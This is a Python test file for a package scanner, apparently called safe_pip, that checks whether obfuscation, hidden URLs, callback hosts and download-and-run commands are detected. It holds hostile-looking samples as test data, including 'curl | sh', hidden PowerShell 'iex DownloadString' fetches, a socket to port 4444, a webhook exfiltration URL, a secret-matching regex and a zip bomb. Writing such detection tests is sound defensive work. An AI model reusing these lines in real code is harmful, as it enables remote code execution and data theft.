"""Each text feature sees what it is for, and not what only looks like it."""

from __future__ import annotations

import ast
import base64
import random
import time
import zlib
from collections.abc import Iterator

import pytest

from safe_pip.distribution import Distribution, DistributionKind, SourceFile
from safe_pip.evidence import MAX_EXCERPT_CHARS, Evidence, Surface
from safe_pip.extractors import text
from safe_pip.extractors.unit import FoldedLiteral, PythonUnit
from safe_pip.feature import FeatureSchema

SCHEMA = FeatureSchema(features=text.FEATURES)
HARMLESS_CODE = "import platform\nprint(platform.system())\n" * 3
JSON = '{"a": [1, 2, 3], "b": "some text that is no code at all"}'
SENTENCE = "just an English sentence, nothing to see or run here"
PERSIAN = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
CYRILLIC = "\u0437\u043d\u0430\u0447\u0435\u043d\u0438\u0435"
BLANKS = " " * 120
EVEN_LINES = "\\n".join(["A1b" * 25] * 9)


def encoded(source: str) -> str:
    return base64.b64encode(source.encode()).decode()


def random_letters(length: int, *, seed: int = 1) -> str:
    """Base 64 of random bytes, no two runs of it alike."""
    data = random.Random(seed).randbytes(length)
    return base64.b64encode(data).decode().rstrip("=")[:length]


def unit(
    source: str,
    *,
    path: str = "demo/core.py",
    surface: Surface = Surface.MODULE,
    literals: tuple[FoldedLiteral, ...] = (),
    is_earned: bool = True,
) -> PythonUnit:
    try:
        has_tree, error = is_earned and bool(ast.parse(source)), ""
    except SyntaxError as failed:
        has_tree, error = False, str(failed)
    return PythonUnit(
        path=path,
        data=source.encode(),
        source=source,
        has_tree=has_tree,
        surface=surface,
        literals=literals,
        parse_error=error,
    )


def observed(source: str, **options: object) -> dict[str, list[Evidence]]:
    found: dict[str, list[Evidence]] = {}
    for evidence in text.observe_unit(unit(source, **options)):  # type: ignore[arg-type]
        found.setdefault(evidence.feature, []).append(evidence)
    return found


def value_of(feature: str, source: str, **options: object) -> float:
    found = observed(source, **options)
    vector = SCHEMA.fold(evidence for items in found.values() for evidence in items)
    return float(vector.values[SCHEMA.positions[feature]])


MANY_NAMES = " + ".join(f"value_{letter}_{i}" for i, letter in enumerate("abcdefghijklmnopqrstuv"))
RANDOM_NAMES = " + ".join(f"x{random_letters(12, seed=i).lower()}" for i in range(40))
SUMS = "\n".join(f"x{i} = chr(({i} + 7) ^ 3 - (2 * {i}))" for i in range(40))

# Feature → (source that has it, source that looks like it).
CASES = {
    "max_line_len": ("x = 1" + " + 1" * 2_000, "x = 1\n" * 50),
    "offscreen_code": (
        f"import os{BLANKS}{BLANKS};import sys\n",
        f"table = [\n    1,{BLANKS}2,\n]\nx = '''\n{BLANKS}picture(1)\n'''\n",
    ),
    "semicolon_after_pad": (
        f"x = 1{BLANKS};exec('y = 2')\n",
        f"x = 1{BLANKS}# a comment; far away\ny = 'a{BLANKS}; b'\n",
    ),
    "invisible_chars": (
        "if access != 'user\u202e \u2066# admin\u2069 \u2066':\n    pass\n",
        f"face = '\U0001f469\u200d\U0001f4bb'\nword = '{PERSIAN}'\n",
    ),
    "confusable_ids": (
        "\U0001d626\U0001d639\U0001d626\U0001d624 = 1\np\u0430th = 2\n",
        f"Δt = 1\nφ = 2\nx\u2099 = 3\n{CYRILLIC} = 'word'\n",
    ),
    "identifier_surprisal": (f"total = {RANDOM_NAMES}\n", "x = 1\n"),
    "int_arith_density": (SUMS, "FLAG = 1 << 4\nSECONDS = 60 * 60\n# 2024-01-02, 3-4\n" * 9),
    "packer_marker": (
        "from pyarmor_runtime import __pyarmor__\n",
        "# the name is encoded by position\nx = 1\n",
    ),
    "comment_ratio": ("# why it is so\nx = 1\n" * 40, "x = 1\n" * 100),
    "token_gini": (f"y = {MANY_NAMES}\n" + "value_a_0 = value_a_0\n" * 50, "x = 1\n"),
    "longest_string": (f"x = '{random_letters(3_000)}'\n", "x = 'a short one'\n"),
    "hi_entropy_strings": (
        f"x = '{random_letters(120)}'\n",
        # A digest, a token, a picture, a path, an alphabet and a sentence.
        f"a = '{'0123456789abcdef' * 4}'\n"
        f"b = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.{random_letters(43)}'\n"
        f"c = 'data:image/png;base64,{random_letters(400)}'\n"
        "d = 'https://example.com/dspace/bitstream/handle/2097/7844/LD2668R41972S43'\n"
        "e = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'\n"
        f"h = '{'a' * 200}'\ni = '{EVEN_LINES}'\n"
        "j = r'([A-Za-z0-9_.-]*(?:API[_-]?KEY|SECRET|TOKEN|PASSWORD|PASSWD|PRIVATE[_-]?KEY)"
        "[A-Za-z0-9_.-]*)[:=]([^;]{8,})'\n"
        "f = 'crypto_secretstream_xchacha20poly1305_HEADERBYTES_and_more'\n"
        "g = 'The quick brown fox: 12 jumps, over the lazy dog (and 3 cats)!'\n",
    ),
    "encoded_ratio": (f"x = '{random_letters(3_000)}'\n", f"x = '{'word ' * 600}'\n"),
    "encoded_len": (f"x = [{', '.join(str(b) for b in HARMLESS_CODE.encode())}]\n", SUMS),
    "fernet_literal": (
        f"x = b'gAAAAABl{random_letters(200).replace('+', '-').replace('/', '_')}'\n",
        f"x = 'gAAAAA'\ny = '{random_letters(60)}gAAAAAAAAAAAAAAA{random_letters(200)}'\n",
    ),
    "decodes_to_code": (
        f"exec(decode('{encoded(HARMLESS_CODE)}'))\n",
        f"x = '{encoded(JSON)}'\ny = '{encoded(SENTENCE)}'\n",
    ),
    "decode_depth": (
        f"x = b'{base64.b85encode(zlib.compress(HARMLESS_CODE.encode())).decode()[::-1]}'\n"
        f"y = '{base64.b64encode(zlib.compress(HARMLESS_CODE.encode())).decode()[::-1]}'\n",
        "x = 'no layers'\n",
    ),
    "needless_escapes": (
        "x = '" + "".join(f"\\x{ord(letter):02x}" for letter in "import platform as p") + "'\n",
        "x = b'\\x30\\x82\\x01\\x0a\\x02\\x82\\x01\\x01\\x00\\xc3\\x9f\\x8e\\xaa\\xbb\\xcc\\xdd'\n"
        "y = 'tab\\x09and\\x1b[0m'\n",
    ),
    "hidden_url": (
        f"x = '{encoded('https://files.example.com/stage-two')}'\n",
        f"x = 'https://files.example.com/{random_letters(30)}'\n",
    ),
    "url_ip_literal": (
        "x = 'http://45.12.33.2:8080/a'\ns.connect(('51.15.1.9', 4444))\n",
        "a = 'http://127.0.0.1:80'\nb = 'http://192.168.1.4/'\nversion = '45.12.33.2'\n"
        "c = 'http://8.8.8.8/'\nd = 'http://192.0.2.7/'\n'''See http://45.12.33.2/ for more.'''\n",
    ),
    "url_suspicious_host": (
        "x = 'https://bit.ly/3abc'\n",
        "x = 'https://docs.example.com/api'\ny = 'https://discord.com/developers'\n",
    ),
    "url_callback_host": (
        "x = f'{name}.abc123.oast.fun'\n",
        "# reported through abc123.oast.fun\nx = 'coast.fun is fine'\n",
    ),
    "url_chat_webhook": (
        "x = 'https://discord.com/api/webhooks/12/ab'\n",
        "x = 'https://discord.com/invite/ab'\ny = 'https://api.telegram.org/'\n",
    ),
    "chat_account": (
        f"x = 'https://discord.com/api/webhooks/123456789012345678/{'ab' * 34}'\n",
        "x = 'https://discord.com/api/webhooks/{id}/{token}'\n",
    ),
    "url_drop_host": ("x = 'https://transfer.sh/up'\n", "x = 'transfer.show'\n"),
    "url_insecure": (
        "x = 'http://downloads.example-project.dev/a'\n",
        "x = 'http://www.w3.org/2000/svg'\ny = 'http://localhost:80'\n"
        "'''Licensed: http://www.apache.org/licenses/'''\n# http://some.site.dev/\n",
    ),
    "lolbin_strings": (
        "run(['powershell', '-w', 'hidden', '-enc', 'abcd'])\nsh('curl https://x.dev/a | sh')\n",
        "x = 'powershell completion for zsh'\ny = 'curl is a tool'\n'''curl https://x | sh'''\n",
    ),
}


@pytest.mark.parametrize("feature", CASES)
def test_it_is_seen(feature: str) -> None:
    assert value_of(feature, CASES[feature][0]) > 0


@pytest.mark.parametrize("feature", [name for name in CASES if name != "max_line_len"])
def test_what_looks_like_it_is_not_it(feature: str) -> None:
    assert value_of(feature, CASES[feature][1]) == 0


def test_every_feature_has_its_cases() -> None:
    assert set(CASES) | {"url_in_surface"} == set(SCHEMA.names)


def test_short_lines_weigh_less_than_long_ones() -> None:
    assert value_of("max_line_len", CASES["max_line_len"][1]) < 3


@pytest.mark.parametrize("feature", CASES)
def test_evidence_names_its_place(feature: str) -> None:
    for evidence in observed(CASES[feature][0])[feature]:
        assert evidence.location.path == "demo/core.py"
        assert len(evidence.excerpt) <= MAX_EXCERPT_CHARS


def test_the_line_is_the_one_of_the_literal() -> None:
    source = "'''A module.\n\nLong.'''\nx = 1\n\ny = 'https://transfer.sh/up'\n"
    assert observed(source)["url_drop_host"][0].location.line == 6


def test_a_line_within_a_long_string_is_found() -> None:
    source = "x = 1\ny = '''first\nsecond\nhttps://transfer.sh/up\n'''\n"
    assert observed(source)["url_drop_host"][0].location.line == 4


def test_a_host_weighs_most_where_code_runs_unasked() -> None:
    source = "x = 'https://webhook.site/1'\n"
    hidden = value_of("url_in_surface", source, surface=Surface.SETUP, is_earned=False)
    called = value_of("url_in_surface", source, surface=Surface.OTHER, is_earned=False)
    assert hidden == 1.0
    assert called == 0.0


def test_the_surface_of_a_literal_is_the_one_where_it_is_used() -> None:
    literal = FoldedLiteral(value="https://webhook.site/1", line=1, surface=Surface.INIT)
    source = "x = 'https://webhook.site/1'\n"
    assert value_of("url_in_surface", source, literals=(literal,)) == 1.0
    assert value_of("url_in_surface", source) == 0.0


def test_what_the_code_decodes_is_read() -> None:
    folded = (
        FoldedLiteral(value="https://webhook.site/1", line=3, is_folded=True),
        FoldedLiteral(value=HARMLESS_CODE, line=4, is_folded=True),
    )
    found = observed("x = 1\n" * 5, literals=folded)
    assert found["url_callback_host"][0].location.line == 3
    assert found["decodes_to_code"][0].location.line == 4


def test_what_is_only_joined_is_not_hidden() -> None:
    template = "def get(self):\n    return self._value\n"
    folded = (FoldedLiteral(value=template + "# x\n", line=1, is_folded=True),)
    assert "decodes_to_code" not in observed(f"t = {template!r}\n{template}", literals=folded)


def test_a_template_that_is_filled_in_is_not_hidden() -> None:
    literal = FoldedLiteral(value="import os\nassert os.environ['DEMO']", line=2, is_folded=True)
    source = "name = 'DEMO'\nrun('import os\\nassert os.environ[%r]' % name)\n"
    assert "decodes_to_code" not in observed(source, literals=(literal,))


def test_a_table_of_all_bytes_is_not_random() -> None:
    source = f"x = {bytes(range(256))!r}\ny = {bytes(range(0, 256, 3))!r}\n"
    assert "hi_entropy_strings" not in observed(source)


def test_a_byte_that_is_repeated_is_no_text() -> None:
    assert "needless_escapes" not in observed("x = b'" + "\\x66" * 32 + "'\n")


def test_a_large_number_is_no_data() -> None:
    assert "encoded_ratio" not in observed(f"x = int('{7**180}')\n")


def test_encrypted_bytes_are_random() -> None:
    source = f"x = {random.Random(2).randbytes(300)!r}\n"
    assert "hi_entropy_strings" in observed(source)


def test_fifty_layers_are_undone() -> None:
    source = "import platform\nprint(platform.node())\n"
    for _ in range(50):
        packed = base64.b64encode(zlib.compress(source.encode()))[::-1].decode()
        source = f"exec(undo(b'{packed}'))\n"
    assert value_of("decode_depth", source) > 2.5


def test_a_payload_hidden_in_a_docstring_is_found() -> None:
    assert "decodes_to_code" in observed(f'"""{encoded(HARMLESS_CODE)}"""\nexec(f(__doc__))\n')


def test_an_address_within_a_payload_is_found() -> None:
    hidden = encoded("import urllib.request\nurllib.request.urlopen('https://webhook.site/1')\n")
    assert "url_callback_host" in observed(f"x = '{hidden}'\n")


def test_a_unit_without_a_tree_still_shows_what_it_holds() -> None:
    source = f"x = '{encoded(HARMLESS_CODE)}'\ny = 'https://webhook.site/1'\n"
    found = observed(source, is_earned=False)
    assert {"decodes_to_code", "url_callback_host"} <= set(found)


def test_a_source_that_does_not_parse_is_read() -> None:
    found = observed(f"print 'x'\nx = 'https://webhook.site/1'{BLANKS};exec y\n")
    assert {"url_callback_host", "semicolon_after_pad"} <= set(found)


def test_more_honest_code_takes_nothing_away() -> None:
    hostile = f"x = '{encoded(HARMLESS_CODE)}'\ny = 'https://webhook.site/1'{BLANKS};f()\n"
    honest = "def add(first, second):\n    return first + second\n" * 200
    before = SCHEMA.fold(text.observe_unit(unit(hostile)))
    after = SCHEMA.fold(text.observe_unit(unit(honest + hostile)))
    for name in ("decodes_to_code", "encoded_len", "url_callback_host", "semicolon_after_pad"):
        assert after.values[SCHEMA.positions[name]] >= before.values[SCHEMA.positions[name]]


def script(path: str, content: str) -> Distribution:
    file = SourceFile(path=path, size=len(content), load=content.encode)
    return Distribution(
        kind=DistributionKind.WHEEL,
        sha256="",
        filename="demo-1.0-py3-none-any.whl",
        project=None,
        version=None,
        headers={},
        description="",
        files=(file,),
    )


def test_scripts_in_other_languages_are_read() -> None:
    hostile = "iex (New-Object Net.WebClient).DownloadString('https://transfer.sh/a')\n"
    shell = script("demo/run.ps1", f"powershell -nop -w hidden\n{hostile}")
    found = {evidence.feature for evidence in text.observe(shell)}
    assert {"url_drop_host", "lolbin_strings"} <= found


def test_an_honest_installer_script_is_no_attack() -> None:
    shell = script("bin/install.sh", "#!/bin/sh\ncurl -o a.deb https://dl.example.com/a.deb\n")
    assert list(text.observe(shell)) == []


def hostile_sources() -> Iterator[tuple[str, str]]:
    yield "quotes", "'" * 300_000
    yield "escapes", "'" + "\\a" * 200_000
    yield "open triple", '"""' + "\\'" * 200_000
    yield "one word", "x = '" + "a" * 1_000_000 + "'"
    yield "dots", "x = '" + "a.b-" * 100_000 + "'"
    yield "schemes", "x = '" + "http://" * 60_000 + "'"
    yield "blanks", (" " * 200 + "x\n") * 5_000
    yield "foreign", "ä" * 200_000 + "\n" + "a" * 200_000
    yield "lines of schemes", "x = '''" + "http://a.dev\n" * 30_000 + "'''"
    yield "numbers", "x = [" + "1," * 200_000 + "]"
    yield "commands", "x = '" + "powershell " * 40_000 + "'"
    bomb = base64.b64encode(zlib.compress(b"a" * 30_000_000)).decode()
    yield "bomb", f"x = '{bomb}'\n"


@pytest.mark.parametrize(("name", "source"), list(hostile_sources()))
def test_hostile_sources_cost_little(name: str, source: str) -> None:
    hostile = PythonUnit(
        path="a.py",
        data=source.encode(),
        source=source,
        has_tree=False,
        surface=Surface.MODULE,
        literals=(),
        parse_error="not tried",
    )
    started = time.process_time()
    list(text.observe_unit(hostile))
    assert time.process_time() - started < 4, name
